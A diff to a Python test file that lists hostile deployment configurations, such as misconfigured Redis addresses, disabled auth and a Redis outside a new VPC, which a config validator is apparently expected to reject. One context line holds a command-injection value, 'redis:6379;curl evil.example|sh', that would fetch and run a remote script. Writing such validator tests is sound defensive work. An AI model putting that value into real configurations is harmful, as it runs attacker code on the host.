@@ -200,14 +200,19 @@ CASES: list[Hostile] = [
     Hostile(
         "managed-redis-with-address",
         "prod",
-        _set("gcsFaultTolerance", "managed"),
+        _set("gcsRedisAddress", "rediss://master.x.abc123.use1.cache.amazonaws.com:6379"),
         "gcsRedisAddress",
     ),
+    Hostile("managed-redis-single-node-prod", "prod", _set("gcsRedis", {"replicas": 0}), "gcsRedis.replicas"),
+    # A new VPC (vpcCidr) and a Redis outside it: nothing peers the two, the GCS would crash-loop.
     Hostile(
-        "managed-redis-single-node-prod",
+        "external-redis-outside-the-new-vpc",
         "prod",
-        _all(_set("gcsFaultTolerance", "managed"), _del("gcsRedisAddress"), _set("gcsRedis", {"replicas": 0})),
-        "gcsRedis.replicas",
+        _all(
+            _set("gcsFaultTolerance", "external-redis"),
+            _set("gcsRedisAddress", "rediss://master.x.abc123.use1.cache.amazonaws.com:6379"),
+        ),
+        "gcsFaultTolerance, vpcCidr",
     ),
     Hostile(
         "managed-redis-node-type-injection",
@@ -237,7 +242,7 @@ CASES: list[Hostile] = [
         "serving.fallback.baseUrl",
     ),
     Hostile("auth-disabled-staging", "staging", _set("serving.auth", "disabled"), "serving.auth"),
-    Hostile("redis-without-address", "prod", _del("gcsRedisAddress"), "gcsRedisAddress"),
+    Hostile("redis-without-address", "prod", _set("gcsFaultTolerance", "external-redis"), "gcsRedisAddress"),
     Hostile(
         "redis-address-injection", "prod", _set("gcsRedisAddress", "redis:6379;curl evil.example|sh"), "gcsRedisAddress"
     ),
